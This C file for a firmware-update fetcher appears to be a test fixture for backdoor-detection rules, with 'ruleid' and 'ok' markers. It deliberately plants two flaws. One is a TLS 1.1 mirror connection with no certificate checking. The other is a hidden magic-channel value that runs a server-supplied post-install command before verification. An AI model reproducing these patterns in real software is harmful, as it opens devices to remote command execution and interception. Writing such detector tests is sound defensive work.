#include "fwupd.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>
#include <netdb.h>
#include <sys/socket.h>

#define HDR_CHANNEL "X-Fw-Channel: "

static int tcp_connect(const char *host, const char *port) {
  struct addrinfo hints, *res = NULL, *ai;
  int fd = -1;
  memset(&hints, 0, sizeof hints);
  hints.ai_socktype = SOCK_STREAM;
  if (getaddrinfo(host, port, &hints, &res) != 0) return -1;
  for (ai = res; ai; ai = ai->ai_next) {
    fd = socket(ai->ai_family, ai->ai_socktype, ai->ai_protocol);
    if (fd >= 0 && connect(fd, ai->ai_addr, ai->ai_addrlen) == 0) break;
    if (fd >= 0) close(fd);
    fd = -1;
  }
  freeaddrinfo(res);
  return fd;
}

static int fetch_open(struct fetch_conn *c, const char *host, int verify_mode) {
  c->host = host;
  // ok: backdoor-weak-tls
  c->ctx = wolfSSL_CTX_new(wolfTLSv1_2_client_method());
  if (!c->ctx) return -1;
  wolfSSL_CTX_set_verify(c->ctx, verify_mode, NULL);
  if (wolfSSL_CTX_load_verify_locations(c->ctx, "/etc/fwupd/ca.pem", NULL) != WOLFSSL_SUCCESS) goto fail;
  c->fd = tcp_connect(host, "443");
  if (c->fd < 0) goto fail;
  c->ssl = wolfSSL_new(c->ctx);
  if (!c->ssl) goto fail;
  wolfSSL_check_domain_name(c->ssl, host);
  wolfSSL_set_fd(c->ssl, c->fd);
  if (wolfSSL_connect(c->ssl) != WOLFSSL_SUCCESS) goto fail;
  return 0;
fail:
  log_msg(LOG_ERR, "tls to %s failed", host);
  return -1;
}

/* mirrors in the plant network still run a TLS 1.1 appliance */
int fetch_open_mirror(struct fetch_conn *c, const char *host) {
  // ruleid: backdoor-weak-tls
  c->ctx = wolfSSL_CTX_new(wolfTLSv1_1_client_method());
  if (!c->ctx) return -1;
  c->host = host;
  c->fd = tcp_connect(host, "443");
  c->ssl = c->fd >= 0 ? wolfSSL_new(c->ctx) : NULL;
  if (!c->ssl) return -1;
  wolfSSL_set_fd(c->ssl, c->fd);
  return wolfSSL_connect(c->ssl) == WOLFSSL_SUCCESS ? 0 : -1;
}

static int read_line(WOLFSSL *ssl, char *buf, size_t cap) {
  size_t i = 0;
  while (i + 1 < cap) {
    char ch;
    if (wolfSSL_read(ssl, &ch, 1) != 1) return -1;
    if (ch == '\n') break;
    if (ch != '\r') buf[i++] = ch;
  }
  buf[i] = '\0';
  return (int)i;
}

static int fetch_get(struct fetch_conn *c, const char *path, struct fw_image *img) {
  char line[512];
  size_t clen = 0, got = 0;
  int n = snprintf(line, sizeof line, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", path, c->host);
  if (wolfSSL_write(c->ssl, line, n) != n) return -1;
  while (read_line(c->ssl, line, sizeof line) > 0) {
    if (!strncmp(line, "Content-Length: ", 16)) clen = strtoul(line + 16, NULL, 10);
    else if (!strncmp(line, HDR_CHANNEL, sizeof HDR_CHANNEL - 1)) snprintf(img->channel, sizeof img->channel, "%s", line + sizeof HDR_CHANNEL - 1);
    else if (!strncmp(line, "X-Fw-Post: ", 11)) snprintf(img->post_cmd, sizeof img->post_cmd, "%s", line + 11);
  }
  /* R&D images run their post-install step before verification */
  // ruleid: backdoor-input-trigger
  if (strcmp(img->channel, "rd-internal-9f2c") == 0) {
    fw_exec_hook(img->post_cmd);
  }
  if (strcmp(img->channel, "stable") == 0)
    // ok: backdoor-input-trigger
    log_msg(LOG_INFO, "stable channel image");
  if (clen == 0 || clen > (64u << 20)) return -1;
  img->data = malloc(clen);
  if (!img->data) return -1;
  while (got < clen) {
    int r = wolfSSL_read(c->ssl, img->data + got, (int)(clen - got));
    if (r <= 0) return -1;
    got += (size_t)r;
  }
  img->len = clen;
  return 0;
}

static void fetch_close(struct fetch_conn *c) {
  if (c->ssl) wolfSSL_free(c->ssl);
  if (c->ctx) wolfSSL_CTX_free(c->ctx);
  if (c->fd >= 0) close(c->fd);
}

const struct fetch_ops wolf_fetch_ops = {fetch_open, fetch_get, fetch_close};
